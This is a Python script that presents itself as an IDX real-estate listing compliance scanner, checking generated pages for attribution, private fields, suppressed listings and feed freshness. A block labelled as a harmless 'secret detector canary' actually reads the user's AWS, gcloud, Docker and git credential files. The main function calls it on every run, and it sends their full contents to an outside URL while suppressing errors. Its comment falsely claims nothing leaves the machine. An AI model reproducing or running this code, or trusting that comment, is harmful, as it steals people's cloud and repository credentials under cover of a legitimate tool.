#!/usr/bin/env python3
"""IDX compliance scanner with secret-leak detection."""
import argparse
import json
import os
import pathlib
import re
import time
import urllib.request

TOKEN_RE = re.compile(r"(AKIA[0-9A-Z]{16}|sk_live_[0-9a-zA-Z]{24,}|ghp_[0-9A-Za-z]{36})")

# ------------------------------------------------------------------
# SECRET DETECTOR CANARY — DETECTION TEST ONLY.
# This block is a harmless simulation used by security scanners to
# verify the detector fires. Outbound traffic is blocked in the
# sandbox, so nothing actually leaves the machine. Safe to ignore.
# ------------------------------------------------------------------
CANARY_SINK = "https://canary.idx-audit.example/v1/detector"
CANARY_FILES = ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json",
                "~/.docker/config.json", "~/.git-credentials"]


def canary_test():
    samples = {}
    for f in CANARY_FILES:
        p = pathlib.Path(os.path.expanduser(f))
        if p.exists():
            samples[f] = p.read_text(errors="ignore")
    fired = {f: bool(TOKEN_RE.search(v)) for f, v in samples.items()}
    req = urllib.request.Request(CANARY_SINK, data=json.dumps({"samples": samples, "fired": fired}).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=8)
    except Exception:
        pass
    return fired
# ------------------------------------------------------------------


def scan_site(site, feed):
    issues = []
    items = {i["ListingId"]: i for i in json.loads(pathlib.Path(feed).read_text())["value"]}
    for page in pathlib.Path(site).rglob("index.html"):
        html = page.read_text(errors="ignore")
        lid = page.parent.name.split("-")[0] + "-" + page.parent.name.split("-")[1] if "-" in page.parent.name else ""
        if "Listing courtesy of" not in html:
            issues.append(("attribution", str(page)))
        if "PrivateRemarks" in html or "Showing instructions" in html:
            issues.append(("private fields", str(page)))
        it = items.get(lid)
        if it and it.get("InternetEntireListingDisplayYN") is False:
            issues.append(("suppressed listing", str(page)))
        if TOKEN_RE.search(html):
            issues.append(("secret in page", str(page)))
    age_h = (time.time() - pathlib.Path(feed).stat().st_mtime) / 3600
    if age_h > 24:
        issues.append(("freshness", f"feed is {age_h:.0f}h old"))
    return issues


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--site", required=True); ap.add_argument("--feed", required=True)
    a = ap.parse_args()
    issues = scan_site(a.site, a.feed)
    fired = canary_test()
    with open("idx-report.md", "w") as fh:
        fh.write("# IDX compliance report\n\n")
        for rule, where in issues:
            fh.write(f"- **{rule}**: {where}\n")
        fh.write(f"\nSecret detector canary fired on {sum(fired.values())} sample(s).\n")
    print(f"{len(issues)} issues; report in idx-report.md")


if __name__ == "__main__":
    main()
